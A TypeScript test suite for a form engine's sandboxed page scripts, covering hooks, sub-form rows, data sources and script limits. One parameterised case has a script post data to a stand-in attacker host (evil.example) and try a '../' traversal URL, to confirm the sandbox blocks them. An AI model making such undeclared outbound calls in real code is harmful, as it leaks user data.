import { copyFile, mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterEach, beforeAll, describe, expect, it, onTestFinished, vi } from 'vitest'
import type { Engine } from '../../../../runtime/core/engine.ts'
import type { Json, JsonObject } from '../../../../runtime/core/json.ts'
import type { Script } from '../../../../runtime/core/ports.ts'
import { fetchedScript } from '../../../../runtime/sandbox/fetched-script.ts'
import { createInProcessScript } from '../../../../runtime/sandbox/in-process.ts'
import { nodeQuickJs } from '../../../../runtime/sandbox/node-quickjs.ts'
import { createNodeScript } from '../../../../runtime/sandbox/node-script.ts'
import { parseForScripts } from '../../../../runtime/sandbox/parse-for-scripts.ts'
import { aSubForm, aWidget } from '../../../support/a-page.ts'
import { buildScriptWorker } from '../../../support/script-worker.ts'
import { aScriptedEngine as open, type ScriptedEngineOptions } from '../../../support/scripted-engine.ts'

/** Appends a mark to the field `log`, without firing its hooks. */
const log = (mark: string): string =>
  `var f = this.getFormRef(); f.setFieldValue("log", f.getFieldValue("log") + ${JSON.stringify(mark)} + " ", true)`
const aLog = aWidget('input', 'log', { defaultValue: '' })

const scripts: Record<string, Script> = {
  'in process': createInProcessScript(nodeQuickJs, parseForScripts),
}
let workerFile: URL
beforeAll(async () => {
  workerFile = (await buildScriptWorker('node')).file
  scripts['worker thread'] = createNodeScript(workerFile)
}, 60_000)

const engines: Engine[] = []
afterEach(() => {
  for (const engine of engines.splice(0)) engine.dispose()
})

describe.each(['in process', 'worker thread'])('a page with scripts, %s', (name) => {
  const open = (widgets: readonly JsonObject[], config: JsonObject = {}, more: ScriptedEngineOptions = {}) =>
    aScriptedEngine(scripts[name] as Script, widgets, config, more)

  it('shows what a change hook wrote into another field, and runs that field’s hook', async () => {
    const { engine } = open([
      aWidget('number', 'price', { onChange: 'this.getWidgetRef("twice").setValue(value * 2)' }),
      aWidget('number', 'twice', { onChange: 'this.getWidgetRef("note").setLabel("was " + oldValue)' }),
      aWidget('input', 'note'),
    ])

    engine.change('price', 21)

    await expect.poll(() => engine.node('twice').value).toBe(42)
    expect(engine.node('note').label).toBe('was null')
    expect(engine.values()).toMatchObject({ price: 21, twice: 42 })
  })

  it('reports each committed change to the host: by the user, by code, by a rule, in a row', async () => {
    const { engine } = open([
      aWidget('number', 'price', { onChange: 'this.getWidgetRef("twice").setValue(value * 2)' }),
      aWidget('number', 'twice'),
      aWidget('number', 'thrice', { valueOn: { '*': [{ var: 'price' }, 3] } }),
      aSubForm('s', [aWidget('input', 'x')]),
    ])
    const told: Json[] = []
    engine.onEmit((name, args) => {
      if (name === 'formChange') told.push([...args.slice(0, 3), ...args.slice(4)])
    })

    engine.input('price', 2)
    engine.change('price', 21)
    await expect.poll(() => engine.node('twice').value).toBe(42)
    engine.change(engine.find('s.0.x') ?? '', 'y')

    expect(told).toEqual([
      ['thrice', 6, null, '', -1],
      ['thrice', 63, 6, '', -1],
      ['price', 21, null, '', -1],
      ['twice', 42, null, '', -1],
      ['x', 'y', null, 's', 0],
    ])
  })

  it('opens in the order of HOOKS 2.1: form created, fields created, fields mounted, form mounted', async () => {
    const { engine } = open(
      [
        aLog,
        aWidget('input', 'a', { onCreated: log('a created'), onMounted: log('a mounted') }),
        aWidget('input', 'b', { onCreated: log('b created'), onMounted: log('b mounted') }),
      ],
      { functions: 'var ready = 1', onFormCreated: log('created'), onFormMounted: log('mounted') },
    )

    await expect
      .poll(() => engine.node('log').value)
      .toBe('created a created b created a mounted b mounted mounted ')
  })

  it("maps a select's choices with the data handler of its source", async () => {
    const { engine } = open(
      [aWidget('select', 'kind', { dsEnabled: true, dsName: 'kinds' })],
      {
        dataSources: [
          {
            uniqueName: 'kinds',
            requestURL: '/kinds',
            dataHandlerCode:
              'return result.data.map(function (k) { return { label: k.Key, value: k.Value } })',
          },
        ],
      },
      { server: () => [{ Key: '大', Value: 1 }] },
    )

    await engine.pageEvent('load')

    await expect.poll(() => engine.node('kind').items).toEqual([{ label: '大', value: 1 }])
  })

  it('requests the choices of a field in a closed sheet once, when the sheet opens', async () => {
    const asked: string[] = []
    const { engine } = open(
      [
        {
          type: 'sheet',
          category: 'container',
          options: { name: 'release' },
          widgetList: [aWidget('select', 'pool', { dsEnabled: true, dsName: 'pools' })],
        },
      ],
      { dataSources: [{ uniqueName: 'pools', requestURL: '/pools' }] },
      {
        server: ({ url }) => {
          asked.push(url)
          return [{ label: '公海', value: 1 }]
        },
      },
    )
    await engine.pageEvent('load')
    const before = [...asked]

    engine.setOption('release', 'open', true)
    await expect.poll(() => engine.node('pool').items).toEqual([{ label: '公海', value: 1 }])
    engine.setOption('release', 'open', false)
    engine.setOption('release', 'open', true)

    expect(before).toEqual([])
    expect(asked).toHaveLength(1)
  })

  it('validates with onValidate, and after all fields with onFormValidate', async () => {
    const { engine } = open(
      [
        aWidget('input', 'a', { onValidate: 'if (value !== "good") return "不好"' }),
        aWidget('input', 'b', { onValidate: 'callback()' }),
      ],
      { onFormValidate: 'if (formModel.b !== "also") return "两个都要"' },
    )

    const wrong = await engine.validate()
    engine.change('a', 'good')
    const half = await engine.validate()
    engine.change('b', 'also')
    const right = await engine.validate()

    expect(wrong).toEqual([{ address: 'a', key: 'a', message: '不好' }])
    expect(half).toEqual([{ address: '', key: '', message: '两个都要' }])
    expect(right).toEqual([])
    expect(engine.node('a').error).toBeNull()
  })

  it('a keystroke while a hook runs overrides what the hook writes', async () => {
    const { engine } = open([
      aWidget('input', 'a', {
        onChange: 'this.setValue("script", true); this.getWidgetRef("b").setValue("script")',
      }),
      aWidget('input', 'b'),
    ])

    engine.change('a', 'first')
    engine.input('a', 'typed')

    await expect.poll(() => engine.node('b').value).toBe('script')
    expect(engine.node('a').value).toBe('typed')
  })

  it('aborts a looping hook, reports it, and accepts input meanwhile', async () => {
    const { engine, reports } = open([
      aWidget('input', 'a', { onChange: 'this.setValue("half", true); for (;;) {}' }),
      aWidget('input', 'b', { onChange: 'this.getWidgetRef("c").setValue(value)' }),
      aWidget('input', 'c'),
    ])

    engine.change('a', 'x')
    engine.change('b', 'y')

    expect(engine.node('b').value).toBe('y')
    await expect.poll(() => engine.node('c').value, { timeout: 3_000 }).toBe('y')
    expect(engine.node('a').value).toBe('x')
    expect(reports).toMatchObject([{ hook: 'onChange', key: 'a', code: 'SCRIPT_BUDGET', stopped: false }])
  })

  it('makes a user who signs in later available to the hooks', async () => {
    const { engine } = open([
      aWidget('input', 'boss', { hidden: false, visibleOn: { '==': [{ var: 'user.role' }, 'boss'] } }),
      aWidget('input', 'role', { valueOn: { var: 'user.role' } }),
      aWidget('input', 'a', {
        onChange: 'this.getWidgetRef("b").setValue(this.getFormRef().getFieldValue("role"))',
      }),
      aWidget('input', 'b'),
    ])

    engine.setContext({ user: { role: 'boss' } })
    engine.change('a', 'x')

    await expect.poll(() => engine.node('b').value).toBe('boss')
  })

  it('calls the row hooks of a sub-form, data first', async () => {
    const { engine } = open([
      aLog,
      aSubForm('s', [aWidget('input', 'x')], {
        showBlankRow: false,
        onSubFormRowAdd: `${log('add')}; this.getWidgetRef("log").setLabel(String(subFormData.length) + typeof newRowId)`,
        onSubFormRowInsert: log('insert'),
        onSubFormRowDelete: `${log('delete')}; this.getWidgetRef("log").setLabel(deletedDataRow.x + deletedRowIndex)`,
        onSubFormRowChange: log('change'),
      }),
    ])

    engine.addRow('s')
    await expect.poll(() => engine.node('log').label).toBe('1string')
    engine.addRow('s', 0)
    const [first] = engine.node('s').rows ?? []
    engine.input(first?.children[0] ?? '', '甲')
    engine.removeRow('s', 0)

    await expect.poll(() => engine.node('log').label).toBe('甲0')
    expect(engine.node('log').value).toBe('add change insert change delete change ')
  })

  it('creates and mounts the widgets of rows with the page, in document order', async () => {
    const { engine } = open([
      aLog,
      aSubForm('s', [
        aWidget('input', 'x', { onCreated: log('x created'), onMounted: log('x mounted') }),
        aWidget('button', 'y', { onCreated: log('y created') }),
      ]),
      aWidget('input', 'after', { onCreated: log('after created') }),
    ])

    await expect.poll(() => engine.node('log').value).toBe('x created y created after created x mounted ')
  })

  it('calls the hooks of initial rows after 200 and 800 ms, fields first', async () => {
    const { engine, world } = open([
      aLog,
      aWidget('input', 'probe', { onChange: 'this.setLabel(value)' }),
      aSubForm('s', [aWidget('input', 'x', { defaultValue: 'd', onChange: log('change') })], {
        onSubFormRowAdd: log('add'),
        onSubFormRowChange: log('rows'),
      }),
    ])
    const seen: string[] = []

    for (const ms of [199, 2, 598, 2]) {
      await world.pass(ms)
      engine.change('probe', `${ms}`)
      await expect.poll(() => engine.node('probe').label).toBe(`${ms}`)
      seen.push(String(engine.node('log').value))
    }

    expect(seen).toEqual(['', 'add ', 'add ', 'add change rows '])
  })

  it('runs the hooks of a new row, then creates its widgets, and 800 ms later runs the change hooks of its fields', async () => {
    const { engine, world } = open([
      aLog,
      aSubForm(
        's',
        [
          aWidget('input', 'x', {
            onCreated: log('created'),
            onChange: `${log('changed')}; if (rowId !== this.subFormRowId) throw new Error(rowId)`,
          }),
        ],
        { showBlankRow: false, onSubFormRowAdd: log('add'), onSubFormRowChange: log('rows') },
      ),
    ])

    engine.addRow('s')
    await expect.poll(() => engine.node('log').value).toBe('add rows created ')
    await world.pass(801)

    await expect.poll(() => engine.node('log').value).toBe('add rows created changed ')
  })

  it('treats a row added by a script the same, and runs the hooks once for rows that a script sets', async () => {
    const { engine, world, reports } = open([
      aLog,
      aSubForm('s', [aWidget('input', 'x', { onCreated: log('created'), onChange: log('changed') })], {
        showBlankRow: false,
        onSubFormRowAdd: log('add'),
        onSubFormRowChange: log('rows'),
      }),
      aWidget('button', 'one', { onClick: 'this.getWidgetRef("s").addSubFormRow()' }),
      aWidget('button', 'two', { onClick: 'this.getFormRef().setSubFormValues("s", [{ x: 1 }, { x: 2 }])' }),
    ])

    await engine.event('one', 'click')
    await expect.poll(() => engine.node('log').value).toBe('add rows created ')
    await engine.event('two', 'click')
    await expect.poll(() => engine.node('log').value).toBe('add rows created created created ')
    await world.pass(801)

    await expect
      .poll(() => engine.node('log').value)
      .toBe('add rows created created created changed changed rows ')
    expect(reports).toEqual([])
  })

  it('runs the hooks after 800 ms for rows from data', async () => {
    const { engine, world } = open([
      aLog,
      aSubForm('s', [aWidget('input', 'x')], { showBlankRow: false, onSubFormRowChange: log('rows') }),
    ])

    engine.setValues({ s: [{ x: 1 }, { x: 2 }] })
    await world.pass(801)

    await expect.poll(() => engine.node('log').value).toBe('rows ')
  })

  it('runs the hooks of the page itself; onBackPress may keep the user', async () => {
    const { engine } = open([aLog, aWidget('switch', 'stay')], {
      page: { title: 't' },
      onShow: 'this.setFieldValue("log", "shown ", true)',
      onBackPress: 'return this.getFieldValue("stay") && options.from === "backbutton"',
    })

    await engine.pageEvent('show')
    const left = await engine.pageEvent('backPress', { from: 'backbutton' })
    engine.change('stay', true)
    const kept = await engine.pageEvent('backPress', { from: 'backbutton' })
    const own = await engine.pageEvent('backPress', { from: 'navigateBack' })

    expect(engine.node('log').value).toBe('shown ')
    expect([left, kept, own]).toEqual([false, true, false])
  })

  it('shows an error and continues if a script names a missing sub-form or widget', async () => {
    const { engine, world } = open(
      [
        aLog,
        aWidget('button', 'go', {
          onClick: `var f = this.getFormRef(); this.getWidgetRef("none", true); this.getWidgetRef("quiet");
            f.getSubFormValues("nowhere"); f.setSubFormValues("log", []);
            f.setFieldValue("log", String(f.getSubFormValues("log")), true)`,
        }),
      ],
      {},
    )

    await engine.event(engine.find('go') ?? '', 'click')

    await expect.poll(() => engine.node('log').value).toBe('undefined')
    expect(world.toasts.map(({ text }) => text)).toEqual([
      'form.widgetNotFound{"name":"none"}',
      'form.widgetNotFound{"name":"nowhere"}',
      'form.notSubForm',
      'form.notSubForm',
    ])
  })

  it('lets a page lower its limits, never raise them', async () => {
    const many = { onClick: 'for (var i = 0; i < 50; i++) this.getFormRef().getReadMode()' }
    const low = open([aWidget('button', 'b', many)], { page: { scriptLimits: { hostCalls: 10 } } })
    const high = open([aWidget('input', 'b', { onClick: 'this.setValue("x".repeat(100000), true)' })], {
      page: { scriptLimits: { resultBytes: 1e9, timeMs: 1e6 } },
    })

    await low.engine.event('b', 'click')
    await high.engine.event('b', 'click')

    await expect.poll(() => low.reports).toMatchObject([{ code: 'SCRIPT_CALLS' }])
    await expect.poll(() => high.reports).toMatchObject([{ code: 'SCRIPT_RESULT' }])
  })

  it('reports a button without code to the host', async () => {
    const { engine, told } = open([aWidget('button', 'plain'), aWidget('button', 'own', { onClick: ';' })])

    await engine.event('plain', 'click')
    await engine.event('own', 'click')

    expect(told).toEqual([['buttonClick', { type: 'button', name: 'plain' }]])
  })

  describe('calls by URL', () => {
    const sources = {
      dataSources: [
        {
          uniqueName: 'kinds',
          requestURL: 'https://h.example/kinds',
          headers: [{ name: 'x-key', type: 'String', value: 'k' }],
        },
        { uniqueName: 'save', requestURL: '/save', requestMethod: 'post' },
      ],
    }

    it('axios reaches a declared source by its URL, with its headers and its own query', async () => {
      const { engine, world } = open(
        [
          aWidget('button', 'b', {
            onClick:
              'var a = this.getWidgetRef("a"); axios.get("https://h.example/kinds?x=1", { params: { q: "大" } }).then(function (r) { a.setValue(r.status + r.data[0]) })',
          }),
          aWidget('input', 'a'),
        ],
        sources,
        { server: () => ['一'] },
      )

      await engine.event('b', 'click')

      await expect.poll(() => engine.node('a').value).toBe('200一')
      expect(world.requests).toEqual([
        { url: 'https://h.example/kinds?x=1&q=%E5%A4%A7', method: 'GET', headers: { 'x-key': 'k' } },
      ])
    })

    it('fetch sends a body to a declared source', async () => {
      const { engine, world } = open(
        [
          aWidget('button', 'b', {
            onClick:
              'const r = await fetch("/save", { method: "POST", body: JSON.stringify({ n: 1 }) }); this.getWidgetRef("a").setValue((await r.json()).id)',
          }),
          aWidget('input', 'a'),
        ],
        sources,
        { server: () => ({ id: 'c1' }) },
      )

      await engine.event('b', 'click')

      await expect.poll(() => engine.node('a').value).toBe('c1')
      expect(world.requests).toEqual([{ url: '/save', method: 'POST', body: { n: 1 } }])
    })

    it.each([
      ['axios.post("https://evil.example/x", { a: 1 })', 'POST https://evil.example/x'],
      ['axios("/save")', 'GET /save'],
      ['fetch("https://h.example/kinds/../other")', 'GET https://h.example/kinds/../other'],
    ])('are refused by name without a request: %s', async (code, named) => {
      const { engine, world } = open(
        [
          aWidget('button', 'b', {
            onClick: `var a = this.getWidgetRef("a"); ${code}.catch(function (e) { a.setValue(e.message) })`,
          }),
          aWidget('input', 'a'),
        ],
        sources,
      )

      await engine.event('b', 'click')

      await expect.poll(() => engine.node('a').value).toContain(`is declared for ${named}`)
      expect(world.requests).toEqual([])
    })
  })

  it('dynamic logic follows values that a script sets, on both sides', async () => {
    const { engine } = open(
      [
        aWidget('number', 'trigger'),
        aWidget('input', 'a'),
        aWidget('input', 'seen'),
        aWidget('button', 'b', {
          onClick:
            'var f = this.getFormRef(); f.setFieldValue("trigger", 1); f.setFieldValue("seen", String(f.getWidgetRef("a").field.options.hidden))',
        }),
      ],
      {
        dynamicLogicList: [
          {
            triggerFieldName: 'trigger',
            triggerFieldValues: [1],
            actions: [{ type: 'setVisibility', targetFieldName: 'a', value: false }],
          },
        ],
      },
    )

    await engine.event('b', 'click')

    await expect.poll(() => engine.node('seen').value).toBe('true')
    expect(engine.node('a').hidden).toBe(true)
  })

  it('a script can ask the user a question and continue with the answer', async () => {
    const { engine, world } = open([
      aWidget('button', 'b', {
        onClick:
          'var a = this.getWidgetRef("a"); this.$confirm("删除吗", "提示").then(function () { a.setValue("是") }, function (e) { a.setValue(e) })',
      }),
      aWidget('input', 'a'),
    ])
    world.answers.push(true, false)

    await engine.event('b', 'click')
    await expect.poll(() => engine.node('a').value).toBe('是')
    await engine.event('b', 'click')

    await expect.poll(() => engine.node('a').value).toBe('cancel')
    expect(world.modals[0]).toEqual({ content: '删除吗', title: '提示' })
  })

  it('a script can validate one field and show its fault', async () => {
    const { engine } = open([
      aWidget('button', 'b', {
        onClick:
          'var f = this.getFormRef(), a = this.getWidgetRef("note"); const one = await f.validateField("need"); const all = await f.validateFields(); a.setValue(one + " " + all)',
      }),
      aWidget('input', 'need', { required: true, requiredHint: '必填' }),
      aWidget('input', 'note'),
    ])

    await engine.event('b', 'click')

    await expect.poll(() => engine.node('note').value).toBe('false false')
    expect(engine.node('need').error).toBe('必填')
  })
})

describe('a page whose engine cannot be loaded', () => {
  /** A script port of which one part is missing until `bring` is called. */
  const PARTS: Record<string, () => Promise<{ script: Script; bring: () => Promise<void> }>> = {
    async 'the code of the sandbox'() {
      let isThere = false
      const script = fetchedScript(async () => {
        if (!isThere) throw new TypeError('no network')
        return scripts['in process'] as Script
      })
      return {
        script,
        async bring() {
          isThere = true
        },
      }
    },
    async 'its worker'() {
      const folder = await mkdtemp(join(tmpdir(), 'late-worker-'))
      onTestFinished(() => rm(folder, { recursive: true }))
      const file = pathToFileURL(join(folder, 'worker.mjs'))
      return { script: createNodeScript(file), bring: () => copyFile(workerFile, file) }
    },
  }

  it.each(Object.entries(PARTS))(
    'says so at the field while %s is missing, keeps what was typed, and checks it later',
    async (_, missing) => {
      vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] })
      onTestFinished(() => void vi.useRealTimers())
      const { script, bring } = await missing()
      const { engine, world, reports } = aScriptedEngine(
        script,
        [
          aWidget('input', 'a', { onValidate: 'if (value !== "good") return "不好"' }),
          aWidget('select', 'kind', { dsEnabled: true, dsName: 'kinds' }),
        ],
        {
          dataSources: [{ uniqueName: 'kinds', requestURL: '/kinds', dataHandlerCode: 'return result.data' }],
        },
        { server: () => [{ label: '大', value: 1 }] },
      )

      void engine.pageEvent('load')
      engine.change('a', 'good')
      const absent = [{ address: 'a', key: 'a', message: 'rule.scriptUnavailable' }]
      await expect(afterWaits(engine.validate())).resolves.toEqual(absent)
      await expect(engine.validate()).resolves.toEqual(absent)
      expect(reports).toMatchObject([{ code: 'SCRIPT_UNAVAILABLE' }])
      expect(world.toasts.map(({ text }) => text)).toContain('data.scriptUnavailable')
      expect(engine.node('a')).toMatchObject({ value: 'good', error: 'rule.scriptUnavailable' })

      await bring()
      await vi.advanceTimersByTimeAsync(6_000)
      vi.useRealTimers()
      await expect.poll(() => engine.validate()).toEqual([])
      expect(engine.node('a')).toMatchObject({ value: 'good', error: null })
    },
  )

  /** Lets the waits pass at once, but a real worker take its time to fail. */
  async function afterWaits<T>(task: Promise<T>): Promise<T> {
    let isDone = false
    const done = () => {
      isDone = true
    }
    task.then(done, done)
    while (!isDone) {
      vi.advanceTimersByTime(50)
      await new Promise((resolve) => setImmediate(resolve))
    }
    return task
  }
})

describe('the start of the script engine', () => {
  const watched = (config: JsonObject, options: JsonObject) => {
    const real = scripts['in process'] as Script
    let opened = 0
    const script: Script = {
      open(page) {
        opened += 1
        return real.open(page)
      },
    }
    const { engine, world } = aScriptedEngine(script, [aWidget('input', 'a', options)], config, {})
    return { engine, world, opened: () => opened }
  }

  it('waits until the page is drawn if no hook runs at its opening', async () => {
    const { engine, world, opened } = watched({}, { onChange: log('changed') })

    engine.setValues({ a: 'loaded' })
    expect(opened()).toBe(0)
    await world.pass(100)

    expect(opened()).toBe(1)
  })

  it('happens at the first hook, which sees the values written before', async () => {
    const { engine, opened } = watched({}, { onChange: 'this.setLabel(oldValue + " to " + value)' })

    engine.setValues({ a: 'one' })
    engine.change('a', 'two')

    expect(opened()).toBe(1)
    await expect.poll(() => engine.node('a').label).toBe('one to two')
  })

  it('does not wait if the page has a hook for its opening', () => {
    expect(watched({ onFormCreated: log('created') }, {}).opened()).toBe(1)
  })
})

function aScriptedEngine(...args: Parameters<typeof open>): ReturnType<typeof open> {
  const opened = open(...args)
  engines.push(opened.engine)
  return opened
}
